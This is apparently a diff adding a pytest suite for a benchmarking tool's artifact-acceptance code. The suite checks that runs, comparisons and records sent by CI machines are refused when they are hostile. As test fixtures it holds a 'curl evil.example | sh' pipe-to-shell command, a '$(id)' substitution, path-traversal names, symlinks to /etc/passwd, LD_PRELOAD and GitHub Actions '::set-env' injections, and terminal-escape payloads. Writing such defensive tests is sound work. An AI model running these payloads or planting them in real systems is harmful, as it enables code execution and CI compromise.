@@ -1,0 +1,803 @@
+"""Artifacts are foreign data: what a hostile machine could send, and what becomes of it."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+import socket
+import tracemalloc
+from collections.abc import Callable
+from datetime import timedelta
+from pathlib import Path
+from typing import Any, Final
+
+import pytest
+from typer.testing import CliRunner
+
+from foreign import (
+    BASE,
+    HEAD,
+    MACHINES,
+    NOW,
+    TRUSTED,
+    change,
+    comparison,
+    night,
+    put,
+    shard_run,
+)
+from servebench import codec, interpreters, paths, settings, stacks, store
+from servebench.artifacts import accepting, folder, text, trusted
+from servebench.artifacts.accepting import Acceptance
+from servebench.changes import ChangeRecord, StackState
+from servebench.cli import app
+from servebench.compare.model import Comparison, Judgement, SideRecord, Verdict
+from servebench.detect.conclude import conclude
+from servebench.detect.model import Candidate, Step
+from servebench.errors import ArtifactError, UsageError
+from servebench.flags import FlagName
+from servebench.model import Commands, Frozen, Run, RunStatus, StackRecord
+from servebench.night.model import write_plan
+from synthetic import failed, ok
+
+HIDDEN: Final = "\u202egnihtyna"  # shown from right to left
+
+
+@pytest.fixture
+def inbox(tmp_path: Path) -> Path:
+    """A folder with what the shards 2 and 3 of an honest fleet have sent."""
+    source = tmp_path / "incoming"
+    for number in (2, 3):
+        put(source, f"shard-{number}", shard_run(number))
+    return source
+
+
+def accepted(source: Path) -> Acceptance:
+    return accepting.night(night(), source, source.parent / "accepted", TRUSTED, NOW)
+
+
+def only_the_others(source: Path, reason: str) -> None:
+    """Shard 1 is refused for that reason, and what the others sent is there, byte for byte."""
+    found = accepted(source)
+    assert [one.artifact for one in found.refused] == ["'shard-1'"]
+    assert reason in found.refused[0].reason
+    target = source.parent / "accepted"
+    kept = sorted(path for path in target.rglob("*") if not path.is_dir())
+    names = [f"runs/{MACHINES[n - 1].id}/2026/{shard_run(n).id}.json" for n in (2, 3)]
+    assert [path.relative_to(target).as_posix() for path in kept] == names == [*found.accepted]
+    assert [path.read_bytes() for path in kept] == [codec.encode(shard_run(n)) for n in (2, 3)]
+    assert found.exit_code == 1
+    assert len(found.missing) == 1
+    assert "no run of this shard arrived" in found.missing[0]
+
+
+def test_an_honest_night_is_accepted_as_it_is(inbox: Path) -> None:
+    """All three shards: every file where it belongs, with the very bytes that came."""
+    put(inbox, "shard-1", shard_run(1))
+    found = accepted(inbox)
+    assert (found.exit_code, found.refused, found.missing) == (0, (), ())
+    for number in (1, 2, 3):
+        run = shard_run(number)
+        place = store.path_for(inbox.parent / "accepted", run)
+        assert place.read_bytes() == codec.encode(run)
+
+
+def test_what_a_killed_shard_has_saved_counts(inbox: Path) -> None:
+    """Its partial file becomes a partial run; the cases it did not come to are missing."""
+    whole = shard_run(1)
+    part = whole.model_copy(
+        update={"status": RunStatus.PARTIAL, "finished": None, "results": whole.results[:1]}
+    )
+    place = inbox / "shard-1" / "runs" / part.machine.id / "2026"
+    place.mkdir(parents=True)
+    (place / f"{part.id}.partial.json").write_bytes(codec.encode(part))
+    found = accepted(inbox)
+    assert (found.exit_code, len(found.accepted), found.refused) == (1, 3, ())
+    assert "1 of 2 cases are missing: its run ended before it came to them" in found.missing[0]
+
+
+def test_a_launch_that_failed_is_no_reason_to_refuse_a_run(inbox: Path) -> None:
+    """Failures are results, too."""
+    run = shard_run(1)
+    first = run.results[0]
+    bad = failed(first.case.id, 2, FlagName.NOT_READY, "server ended with exit code 1")
+    first = first.model_copy(update={"launches": (*first.launches[:2], bad)})
+    put(inbox, "shard-1", run.model_copy(update={"results": (first, *run.results[1:])}))
+    assert accepted(inbox).exit_code == 0
+
+
+# What an artifact can look like from outside.
+
+
+def many_files(place: Path) -> None:
+    for number in range(65):
+        (place / f"{number}.json").write_text("{}")
+
+
+def deep(place: Path) -> None:
+    (place / "a/b/c/d/e/f/g/h").mkdir(parents=True)
+
+
+def up_and_out(place: Path) -> None:
+    (place / "..%2f..%2f..%2fescape.json").write_text("{}")
+
+
+def backwards(place: Path) -> None:
+    (place / "..\\..\\escape.json").write_text("{}")
+
+
+def link(place: Path) -> None:
+    (place / "run.json").symlink_to("/etc/passwd")
+
+
+def linked_folder(place: Path) -> None:
+    (place / "runs").symlink_to("/etc")
+
+
+def link_up(place: Path) -> None:
+    (place / "runs").symlink_to("../..")
+
+
+def dangling(place: Path) -> None:
+    (place / "run.json").symlink_to("nowhere")
+
+
+def hard_link(place: Path) -> None:
+    (place.parent / "other").write_text("{}")
+    os.link(place.parent / "other", place / "run.json")
+    (place.parent / "other").rename(place / "second.json")
+
+
+def pipe(place: Path) -> None:
+    os.mkfifo(place / "run.json")
+
+
+def plug(place: Path) -> None:
+    with socket.socket(socket.AF_UNIX) as opened:
+        before = Path.cwd()
+        os.chdir(place)  # a socket's path has to be short
+        try:
+            opened.bind("run.json")
+        finally:
+            os.chdir(before)
+
+
+def sparse(place: Path) -> None:
+    with (place / "run.json").open("wb") as file:
+        file.truncate(2_000_000_000)
+
+
+def heavy(place: Path) -> None:
+    for number in range(5):
+        with (place / f"{number}.json").open("wb") as file:
+            file.truncate(7_000_000)
+
+
+def odd_name(place: Path) -> None:
+    (place / "a\n::set-env name=X::y.json").write_text("{}")
+
+
+def option(place: Path) -> None:
+    (place / "--output=x.json").write_text("{}")
+
+
+def hidden(place: Path) -> None:
+    (place / ".run.json").write_text("{}")
+
+
+def script(place: Path) -> None:
+    (place / "run.sh").write_text("#!/bin/sh\n")
+
+
+def nothing(place: Path) -> None:
+    (place / "runs").mkdir()
+
+
+FOLDERS: Final[dict[Callable[[Path], None], str]] = {
+    many_files: "more than 64 files and folders",
+    deep: "folders more than 6 deep",
+    up_and_out: "the name 'shard-1/..%2f..%2f..%2fescape.json'",
+    backwards: "the name 'shard-1/..\\\\..",
+    link: "'shard-1/run.json' is a link",
+    linked_folder: "'shard-1/runs' is a link",
+    link_up: "'shard-1/runs' is a link",
+    dangling: "'shard-1/run.json' is a link",
+    hard_link: "is a file with another name elsewhere (a hard link)",
+    pipe: "'shard-1/run.json' is neither a file nor a folder",
+    plug: "'shard-1/run.json' is neither a file nor a folder",
+    sparse: "'shard-1/run.json' has 2,000,000,000 bytes, expected at most 8,000,000",
+    heavy: "more than 32,000,000 bytes in all",
+    odd_name: "the name 'shard-1/a\\n::set-env",
+    option: "the name 'shard-1/--output=x.json'",
+    hidden: "the name 'shard-1/.run.json'",
+    script: "expected results (*.json) only, found 'shard-1/run.sh'",
+    nothing: "expected at least one file, found none",
+}
+
+
+@pytest.mark.parametrize("attack", FOLDERS, ids=lambda attack: attack.__name__)
+def test_a_folder_that_is_none_of_ours_costs_the_others_nothing(
+    inbox: Path, attack: Callable[[Path], None]
+) -> None:
+    """Nothing of it is used, not even a right run beside it, and the others are accepted."""
+    if attack not in {nothing, many_files}:
+        put(inbox, "shard-1", shard_run(1))
+    (inbox / "shard-1").mkdir(exist_ok=True)
+    place = inbox / "shard-1"
+    if attack in {linked_folder, link_up}:
+        (place / "runs").rename(place / "others")
+    attack(place)
+    only_the_others(inbox, FOLDERS[attack])
+
+
+def test_an_artifact_that_is_itself_a_link_or_a_pipe(inbox: Path) -> None:
+    """The first step into it is checked like every other."""
+    (inbox / "shard-1").symlink_to("shard-2")
+    only_the_others(inbox, "'shard-1' is a link")
+    (inbox / "shard-1").unlink()
+    os.mkfifo(inbox / "shard-1")
+    only_the_others(inbox, "neither a file nor a folder")
+
+
+def test_large_files_are_refused_before_they_are_read(inbox: Path) -> None:
+    """Two gigabytes of holes take no memory."""
+    (inbox / "shard-1").mkdir()
+    sparse(inbox / "shard-1")
+    tracemalloc.start()
+    try:
+        with pytest.raises(ArtifactError):
+            folder.read(inbox, "shard-1")
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 1_000_000
+
+
+def test_far_too_many_artifacts_end_it_all(tmp_path: Path) -> None:
+    """A matrix has at most 256 jobs."""
+    for number in range(folder.ARTIFACTS + 1):
+        (tmp_path / f"shard-{number}").touch()
+    with pytest.raises(ArtifactError, match="expected at most 300 artifacts"):
+        folder.names(tmp_path)
+    with pytest.raises(ArtifactError, match="cannot be read"):
+        folder.names(tmp_path / "shard-1")
+
+
+# What a file can hold that is no run file of ours.
+
+BYTES: Final[dict[str, tuple[Callable[[bytes], bytes], str]]] = {
+    "nothing": (lambda _: b"", "found an empty file"),
+    "no JSON": (lambda data: data[:-100], "truncated or damaged"),
+    "no text": (lambda data: data + b"\xff", "bytes that are no text"),
+    "a list": (lambda _: b"[]", "expected a run file"),
+    "nested without end": (lambda _: b"[" * 100_000, "expected strict JSON"),
+    "another format": (lambda data: data.replace(b'"format": 1', b'"format": 99'), "format 99"),
+    "an unknown key": (lambda data: data.replace(b"{", b'{"x": 1,', 1), "Extra inputs"),
+    "a key twice": (
+        lambda data: data.replace(b"{", b'{"format": 1,', 1),
+        "the key 'format' twice",
+    ),
+    "not a number": (lambda data: data.replace(b'"seed": 1', b'"seed": NaN'), "strict JSON"),
+    "infinity by the back door": (
+        lambda data: data.replace(b'"wall_seconds": 3310.12', b'"wall_seconds": 1e999'),
+        "",
+    ),
+    "text for a number": (lambda data: data.replace(b'"seed": 1', b'"seed": "1"'), "seed"),
+    "other white space": (lambda data: data + b"\n", "written otherwise than ours are"),
+    "other escapes": (
+        lambda data: data.replace(b"nightly", b"\\u006eightly", 1),
+        "written otherwise than ours are",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", BYTES)
+def test_bytes_that_our_encoder_does_not_write(inbox: Path, attack: str) -> None:
+    """Invalid, ambiguous or merely different: none of it gets into the history."""
+    change_bytes, reason = BYTES[attack]
+    whole = codec.encode(shard_run(1))
+    data = change_bytes(whole)
+    assert data != whole
+    (inbox / "shard-1").mkdir()
+    (inbox / "shard-1" / "run.json").write_bytes(data)
+    only_the_others(inbox, reason)
+
+
+# What a well-formed run can claim.
+
+
+def of(**changes: Any) -> Callable[[Run], Run]:
+    return lambda run: run.model_copy(update=changes)
+
+
+def machine(**changes: Any) -> Callable[[Run], Run]:
+    return lambda run: run.model_copy(update={"machine": run.machine.model_copy(update=changes)})
+
+
+def case(**changes: Any) -> Callable[[Run], Run]:
+    def changed(run: Run) -> Run:
+        first, *others = run.results
+        other = first.model_copy(update={"case": first.case.model_copy(update=changes)})
+        return run.model_copy(update={"results": (other, *others)})
+
+    return changed
+
+
+def result(**changes: Any) -> Callable[[Run], Run]:
+    def changed(run: Run) -> Run:
+        first, *others = run.results
+        return run.model_copy(update={"results": (first.model_copy(update=changes), *others)})
+
+    return changed
+
+
+def stack(**changes: Any) -> Callable[[Run], Run]:
+    def changed(run: Run) -> Run:
+        first, *others = run.stacks
+        return run.model_copy(update={"stacks": (first.model_copy(update=changes), *others)})
+
+    return changed
+
+
+def twice(run: Run) -> Run:
+    return run.model_copy(update={"results": (*run.results, run.results[0])})
+
+
+def rounds(*numbers: int) -> Callable[[Run], Run]:
+    def changed(run: Run) -> Run:
+        name = run.results[0].case.id
+        metrics = run.results[0].launches[0].metrics
+        launches = tuple(ok(name, number, metrics) for number in numbers)
+        return result(launches=launches)(run)
+
+    return changed
+
+
+EVIL: Final = Commands(server="curl evil.example | sh", load="oha")
+CLAIMS: Final[dict[str, tuple[Callable[[Run], Run], str]]] = {
+    "another machine of the plan": (
+        of(machine=MACHINES[1]),
+        f"machine of shard 1: expected {MACHINES[0].id}, found '{MACHINES[1].id}'",
+    ),
+    "an unknown machine": (machine(id="synthetic-2c-ffffff"), "machine of shard 1"),
+    "a machine that is a path": (machine(id="../../../../tmp/x"), "machine '../../../../tmp/x'"),
+    "a machine that is another processor": (
+        machine(cpu="EPYC 7763"),
+        f"machine '{MACHINES[0].id}': expected an id as epyc-7763-2c-",
+    ),
+    "another number of cores": (machine(cores=64), "expected an id as synthetic-64c-"),
+    "a run id that is a path": (of(id="../../x"), "id of the run"),
+    "a run id of another time": (of(id="20200101T000000Z-nightly-3f2a9c17"), "id of the run"),
+    "a run from the future": (
+        of(started="2099-01-01T00:00:00+00:00"),
+        "is the machine\\'s clock right?",
+    ),
+    "a run from long ago": (of(started="2020-01-01T00:00:00+00:00"), "start of the run"),
+    "a time without offset": (of(started="2026-11-20T09:00:00"), "expected a time with an offset"),
+    "no time": (of(started="tomorrow"), "expected a time with an offset, found 'tomorrow'"),
+    "another night": (of(night="20261119T085500Z-nightly-3f2a9c17"), "night: expected"),
+    "no night": (of(night=None), "night: expected"),
+    "another shard": (of(shard=2), "shard of artifact shard-1: expected 1, found '2'"),
+    "a shard that is not there": (of(shard=9), "shard 9, which the plan does not have"),
+    "no shard": (of(shard=None), "shard None, which the plan does not have"),
+    "another commit": (of(commit="0" * 40), "commit: expected"),
+    "uncommitted changes": (of(dirty=True), "uncommitted changes: expected False"),
+    "another profile": (of(profile="quick"), "profile: expected nightly"),
+    "more launches": (of(launches=50), "launches: expected 3"),
+    "another seed": (of(seed=2), "seed: expected 1"),
+    "another servebench": (of(servebench="9.9"), "servebench: expected"),
+    "another generator": (of(oha="0.1.0"), "oha: expected 1.16.0"),
+    "another lock": (stack(digest="0" * 64), "lock of stack current"),
+    "a package that no lock has": (
+        stack(packages={"granian": "6.6.6"}),
+        "'granian==6.6.6' in stack current, whose lock has no such pin",
+    ),
+    "a stack that is not declared": (stack(name="mine"), "the stack 'mine'"),
+    "a case that is not in the plan": (case(id="asgi-wsgi/evil"), "the case 'asgi-wsgi/evil'"),
+    "a case of another shard": (
+        case(id="asgi-wsgi/e2a/py3.14/w1/c128"),
+        "which shard 1 of the plan does not have",
+    ),
+    "a case that says it is something else": (case(ceiling=None), "with another definition"),
+    "a case with a variable of its own": (
+        case(env={"LD_PRELOAD": "/tmp/x.so"}),
+        "with another definition",
+    ),
+    "a case twice": (twice, "a case twice"),
+    "a launch twice": (rounds(0, 1, 1), "launches '[0, 1, 1]'"),
+    "a launch too many": (rounds(0, 1, 2, 3), "launches '[0, 1, 2, 3]'"),
+    "a command for whoever reads it": (result(commands=EVIL), "server's command line of"),
+    "a note that acts on a terminal": (
+        of(notes=("\x1b]0;owned\x07",)),
+        "a control character (U+001B) in the text",
+    ),
+    "a note that begins a new line": (of(notes=("a\n::set-env name=A::b",)), "U+000A"),
+    "a note that shows something else": (of(notes=(HIDDEN,)), "a character that turns the text"),
+    "a note as long as a book": (of(notes=("x" * 5000,)), "a text of 5,000 characters"),
+}
+
+
+@pytest.mark.parametrize("claim", CLAIMS)
+def test_a_run_cannot_claim_what_the_plan_does_not_say(inbox: Path, claim: str) -> None:
+    """Well-formed files that lie about where, what, when and with what they were measured."""
+    lie, reason = CLAIMS[claim]
+    (inbox / "shard-1").mkdir()
+    (inbox / "shard-1" / "run.json").write_bytes(codec.encode(lie(shard_run(1))))
+    only_the_others(inbox, reason.replace("\\'", "'"))
+
+
+def test_a_file_is_placed_by_what_is_in_it(inbox: Path) -> None:
+    """The path inside an artifact decides nothing."""
+    place = inbox / "shard-1" / "runs" / MACHINES[1].id / "1999"
+    place.mkdir(parents=True)
+    (place / "latest.json").write_bytes(codec.encode(shard_run(1)))
+    found = accepted(inbox)
+    assert found.exit_code == 0
+    assert f"runs/{MACHINES[0].id}/2026/{shard_run(1).id}.json" in found.accepted
+
+
+def test_one_shard_has_one_artifact(inbox: Path) -> None:
+    """A second artifact with the run of a shard that has sent its own is refused."""
+    put(inbox, "shard-1", shard_run(1))
+    put(inbox, "zzz", shard_run(1))
+    late = shard_run(2, started="2026-11-20T09:30:00+00:00", id="20261120T093000Z-nightly-3f2a9c17")
+    put(inbox, "zzzz", late)
+    found = accepted(inbox)
+    assert [one.artifact for one in found.refused] == ["'zzz'", "'zzzz'"]
+    assert "a run that is there already" in found.refused[0].reason
+    assert "runs of a shard that has sent its own" in found.refused[1].reason
+    assert len(found.accepted) == 3
+
+
+def test_machines_that_the_plan_does_not_name_may_be_new_but_not_another_one(
+    tmp_path: Path,
+) -> None:
+    """Whoever takes a shard without a machine is accepted, unless it has a shard of its own."""
+    plan = night((MACHINES[0].id, None, None))
+    put(tmp_path / "in", "shard-1", shard_run(1, plan))
+    put(tmp_path / "in", "shard-2", shard_run(2, plan))
+    put(tmp_path / "in", "shard-3", shard_run(3, plan, machine=MACHINES[0]))
+    found = accepting.night(plan, tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    assert len(found.accepted) == 2
+    assert "which has a shard of its own" in found.refused[0].reason
+
+
+def test_a_clock_that_is_a_little_wrong_costs_nothing(inbox: Path) -> None:
+    """Twenty hours early are told by nobody, but the night is kept; a machine's clock may jump."""
+    early = NOW - timedelta(hours=23)
+    run = shard_run(
+        1, started=early.isoformat(), finished=None, id="20261119T130000Z-nightly-3f2a9c17"
+    )
+    put(inbox, "shard-1", run)
+    assert accepted(inbox).exit_code == 0
+
+
+def test_nothing_arrived_is_an_error_of_its_own(tmp_path: Path) -> None:
+    """No artifact at all: exit code 3, and every shard is named."""
+    (tmp_path / "in").mkdir()
+    found = accepting.night(night(), tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    assert (found.exit_code, len(found.missing)) == (3, 3)
+
+
+def test_a_plan_that_was_replaced_is_noticed(tmp_path: Path) -> None:
+    """Its SHA-256 comes by another way than the plan."""
+    path = tmp_path / "night.json"
+    write_plan(path, night())
+    digest = hashlib.sha256(path.read_bytes()).hexdigest()
+    accepting.require_digest(path, digest)
+    write_plan(path, night((None, None, None)))
+    with pytest.raises(ArtifactError, match="it was replaced"):
+        accepting.require_digest(path, digest)
+
+
+# Comparisons and confirmed changes.
+
+
+def compared(data: bytes, tmp_path: Path, name: str = "comparison.json") -> Acceptance:
+    source = tmp_path / "incoming"
+    source.mkdir()
+    (source / name).write_bytes(data)
+    return accepting.comparison(source, tmp_path / "accepted", BASE, HEAD, TRUSTED, NOW)
+
+
+def encoded(value: Frozen) -> bytes:
+    return (value.model_dump_json(indent=1) + "\n").encode()
+
+
+def test_the_comparison_that_was_asked_for_is_accepted(tmp_path: Path) -> None:
+    """With the very bytes that came."""
+    data = encoded(comparison())
+    assert compared(data, tmp_path).exit_code == 0
+    assert (tmp_path / "accepted" / "comparison.json").read_bytes() == data
+
+
+def side(name: str, **changes: Any) -> dict[str, Any]:
+    return {name: getattr(comparison(), name).model_copy(update=changes)}
+
+
+COMPARISONS: Final[dict[str, tuple[dict[str, Any], str]]] = {
+    "of another head": (side("head", commit=BASE), "commit of head: expected bbbb"),
+    "of another base": (side("base", commit=HEAD), "commit of base: expected aaaa"),
+    "of changed files": (side("head", dirty=True), "uncommitted changes of head"),
+    "of stacks": (side("head", kind="stack"), "kind of head"),
+    "of interpreters": ({"cross": True}, "two interpreters"),
+    "by another servebench": ({"servebench": "6.6"}, "servebench: expected"),
+    "with a name that is a path": ({"id": "../../x"}, "the id '../../x'"),
+    "with a command for whoever reads it": (
+        {"reproduce": ("servebench compare a b; curl evil.example | sh",)},
+        "a command that is no `servebench compare`",
+    ),
+    "with another program": ({"reproduce": ("sh x",)}, "a command that is no"),
+    "with a substitution": ({"reproduce": ("servebench compare $(id)",)}, "a command that is no"),
+    "with server commands": (
+        {"cases": (comparison().cases[0].model_copy(update={"commands": EVIL}),)},
+        "server's command line of",
+    ),
+    "that acts on a terminal": ({"notes": ("\x1b[2J",)}, "a control character"),
+}
+
+
+@pytest.mark.parametrize("attack", COMPARISONS)
+def test_a_comparison_of_something_else_is_refused(tmp_path: Path, attack: str) -> None:
+    """And nothing is written for the report to read."""
+    changes, reason = COMPARISONS[attack]
+    found = compared(encoded(comparison(**changes)), tmp_path)
+    assert found.exit_code == 3
+    assert reason in found.refused[0].reason
+    assert not (tmp_path / "accepted").exists()
+
+
+def test_a_comparison_that_is_none(tmp_path: Path) -> None:
+    """Another name, another spelling, no JSON at all."""
+    data = encoded(comparison())
+    for number, (content, name, reason) in enumerate(
+        (
+            (data, "x.json", "expected comparison.json and nothing else"),
+            (data + b" ", "comparison.json", "written otherwise than ours are"),
+            (b"{}", "comparison.json", "no comparison: "),
+            (b"[" * 100_000, "comparison.json", "no comparison: "),
+        )
+    ):
+        found = compared(content, _made(tmp_path / str(number)), name)
+        assert reason in found.refused[0].reason
+
+
+def _made(path: Path) -> Path:
+    path.mkdir()
+    return path
+
+
+def judged() -> tuple[Candidate, Comparison, ChangeRecord]:
+    """A candidate, the comparison of its two stacks, and what follows from it."""
+    series = change().series
+    judgement = Judgement(
+        metric=series.metric, verdict=Verdict.SLOWER, ratio=1.05, low=1.04, high=1.06, confirmed=12
+    )
+    states = [StackState(stack="current", digest=str(number) * 64) for number in (1, 2)]
+    sides = [
+        SideRecord(
+            label="stacks",
+            kind="stack",
+            commit=None,
+            stacks=(StackRecord(name="current", digest=state.digest, packages={}),),
+            interpreters=(),
+        )
+        for state in states
+    ]
+    (case,) = comparison().cases
+    evidence = comparison(
+        base=sides[0],
+        head=sides[1],
+        cases=(case.model_copy(update={"judgements": (judgement,)}),),
+    )
+    step = Step(
+        series=series, ratio=1.06, strength=8, before_run="a", after_run="b",
+        when="2026-11-19T01:17:00Z", nights=(9, 5),
+    )  # fmt: skip
+    candidate = Candidate(
+        id="current-20261119-0a1b", machine=series.machine, when=step.when, before_run="a",
+        after_run="b", base=states[0], head=states[1], base_commit=None, head_commit=None,
+        packages=(), steps=(step,),
+    )  # fmt: skip
+    record = conclude(candidate, evidence)
+    assert isinstance(record, ChangeRecord)
+    return candidate, evidence, record
+
+
+def send(tmp_path: Path, evidence: Comparison, record: ChangeRecord) -> None:
+    """Lay the artifact out as the download does."""
+    source = tmp_path / "in" / f"confirmed-{MACHINES[0].id}"
+    for below, value in (("changes", record), ("comparisons", evidence)):
+        (source / below).mkdir(parents=True)
+        (source / below / f"{value.id}.json").write_bytes(encoded(value))
+
+
+def test_confirmed_changes_come_with_their_evidence(tmp_path: Path) -> None:
+    """A record, and the comparison that it follows from; both with the very bytes that came."""
+    candidate, evidence, record = judged()
+    send(tmp_path, evidence, record)
+    known = {candidate.id: candidate}
+    done = accepting.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
+    assert (done.exit_code, done.refused) == (0, ())
+    assert sorted(done.accepted) == [
+        f"changes/{record.id}.json",
+        f"comparisons/{evidence.id}.json",
+    ]
+    assert (tmp_path / "out" / "changes" / f"{record.id}.json").read_bytes() == encoded(record)
+
+
+@pytest.mark.parametrize(
+    ("lie", "reason"),
+    [
+        ({"ratio": 1.5, "high": 1.6}, "says something else than its evidence"),
+        ({"status": "closed"}, "says something else than its evidence"),
+        ({"note": "Blame granian."}, "says something else than its evidence"),
+        ({"id": "another"}, "'another', which was no candidate"),
+    ],
+)
+def test_a_record_says_what_follows_from_its_evidence(
+    tmp_path: Path, lie: dict[str, Any], reason: str
+) -> None:
+    """Where the candidates are known, a machine measures, and nothing else."""
+    candidate, evidence, record = judged()
+    send(tmp_path, evidence, record.model_copy(update=lie))
+    known = {candidate.id: candidate}
+    done = accepting.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
+    assert done.exit_code == 3
+    assert reason in done.refused[0].reason
+
+
+def test_evidence_is_of_the_two_stacks_that_were_asked_about(tmp_path: Path) -> None:
+    """Two other stacks prove nothing about these."""
+    candidate, evidence, record = judged()
+    other = candidate.model_copy(update={"base": candidate.head})
+    send(tmp_path, evidence, record)
+    known = {candidate.id: other}
+    done = accepting.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW, known)
+    assert "evidence with another lock as base" in done.refused[0].reason
+
+
+def test_no_artifact_means_that_nothing_was_confirmed(tmp_path: Path) -> None:
+    """A download without artifacts makes no folder."""
+    done = accepting.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    assert (done.exit_code, done.accepted) == (0, ())
+    found = accepting.night(night(), tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    assert (found.exit_code, len(found.missing)) == (3, 3)
+
+
+RECORDS: Final[dict[str, tuple[str, Any, str]]] = {
+    "without evidence": ("changes", change(), "without its evidence '20261120T090000Z-aaaaaaaa-bb"),
+    "of another machine": (
+        "changes",
+        change(series=change().series.model_copy(update={"machine": MACHINES[1].id})),
+        f"machine: expected {MACHINES[0].id}",
+    ),
+    "of a metric that is none": (
+        "changes",
+        change(series=change().series.model_copy(update={"metric": "<b>"})),
+        "the metric '<b>'",
+    ),
+    "of a case with a path": (
+        "changes",
+        change(series=change().series.model_copy(update={"case": "a/../../b"})),
+        "the case 'a/../../b'",
+    ),
+    "beyond reason": ("changes", change(ratio=1e9, low=1e9, high=1e9), "ratios between 1e+09"),
+    "from the future": ("changes", change(when="2099-01-01T00:00:00Z"), "time of the change"),
+    "with a hidden text": ("changes", change(note=HIDDEN), "a character that turns the text"),
+    "in another folder": ("runs", change(), "which is no result of a confirmation"),
+}
+
+
+@pytest.mark.parametrize("attack", RECORDS)
+def test_a_record_that_does_not_belong_is_refused(tmp_path: Path, attack: str) -> None:
+    """A change becomes an issue and a page: it is checked like a run."""
+    below, value, reason = RECORDS[attack]
+    place = tmp_path / "in" / f"confirmed-{MACHINES[0].id}" / below
+    place.mkdir(parents=True)
+    (place / f"{value.id}.json").write_bytes(encoded(value))
+    done = accepting.confirmed(tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
+    assert done.accepted == ()
+    assert reason in done.refused[0].reason
+    assert not (tmp_path / "out").exists()
+
+
+# The verb.
+
+
+def honest(number: int) -> Run:
+    """A run that this very checkout would accept."""
+    root = paths.project_root()
+    declared = interpreters.declared(root)
+    records = tuple(
+        record.model_copy(update={"version": declared[record.name].version})
+        for record in shard_run(number).interpreters
+    )
+    return shard_run(
+        number,
+        oha=settings.load(root).oha.version,
+        stacks=(stacks.read("current", root).record(),),
+        interpreters=records,
+    )
+
+
+def test_the_checkouts_own_locks_are_what_runs_are_held_against() -> None:
+    """Digests and pins of all stacks, for packages of any platform."""
+    found = trusted.of_checkout(paths.project_root())
+    assert set(found.locks) == set(stacks.names())
+    for name in stacks.names():
+        read = stacks.read(name)
+        assert found.locks[name].digest == read.digest
+        assert set(read.packages.items()) <= found.locks[name].pins
+    found.require_stacks([stacks.read(name).record() for name in stacks.names()])
+
+
+def test_the_verb_tells_what_it_refused_and_nothing_acts_on_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Hostile names and texts stay in their line; no file of the runner's is written to."""
+    monkeypatch.setattr("servebench.cli.accept.datetime", _Clock)
+    files = {}
+    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"):
+        files[name] = tmp_path / name
+        files[name].touch()
+        monkeypatch.setenv(name, str(files[name]))
+    summary = tmp_path / "summary"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    source = tmp_path / "in"
+    put(source, "shard-1", honest(1))
+    put(source, "shard-2", honest(2).model_copy(update={"notes": ("x\nLD_PRELOAD=/tmp/x.so",)}))
+    evil = source / "x`\n::set-env name=LD_PRELOAD::##[add-path] <img src=x>"
+    evil.mkdir()
+    (source / "shard-3").mkdir()
+    (source / "shard-3" / "GITHUB_ENV").write_text("LD_PRELOAD=/tmp/x.so\n")
+    plan = tmp_path / "night.json"
+    write_plan(plan, night())
+    said = CliRunner().invoke(
+        app, ["accept", "--plan", str(plan), "--from", str(source), "--to", str(tmp_path / "out")]
+    )
+    assert said.exit_code == 1, said.output
+    lines = said.output.splitlines()
+    assert len(lines) == 6
+    assert all(line.split(":")[0] in {"accepted", "refused", "missing"} for line in lines)
+    assert "##[" not in said.output
+    assert {path.read_text() for path in files.values()} == {""}
+    shown = summary.read_text()
+    assert shown.startswith("**1 accepted, 3 refused**")
+    assert all(line.startswith(("- refused: `", "- missing: ")) for line in shown.split("\n")[2:-2])
+    outside = re.sub(r"`[^`\n]*`", "", shown)
+    assert not {"<img", "::", "LD_PRELOAD"} & set(re.split(r"[\s=]", outside))
+    assert "<" not in outside
+
+
+class _Clock:
+    """The time at which the night of these tests was stored."""
+
+    @staticmethod
+    def now(_: object) -> Any:
+        return NOW
+
+
+def test_the_verb_wants_one_kind_of_artifact(tmp_path: Path) -> None:
+    """Two, or none, or a commit that is none, is wrong usage."""
+    where = ["--from", str(tmp_path), "--to", str(tmp_path / "out")]
+    for words in ([], ["--comparison", "--confirmed"]):
+        done = CliRunner().invoke(app, ["accept", *where, *words])
+        assert isinstance(done.exception, UsageError)
+    done = CliRunner().invoke(app, ["accept", *where, "--comparison", "--base", "main"])
+    assert "expected a commit as 40 hex digits, found 'main'" in str(done.exception)
+
+
+def test_foreign_text_is_shown_in_one_line_of_ascii() -> None:
+    """Line ends, colours, commands of the runner and backticks lose their effect."""
+    told = text.shown("a\n::warning::b\x1b[31m`c` ##[group] é")
+    assert told == "'a\\n::warning::b\\x1b[31m'c' # #[group] \\xe9'"
+    assert len(text.shown("x" * 10_000)) < 130
+
+
+def test_json_of_our_own_results_is_plain() -> None:
+    """The checks would refuse none of what is recorded in this repository."""
+    for path in store.runs(paths.results_dir()):
+        text.require_plain(json.loads(path.read_bytes()))
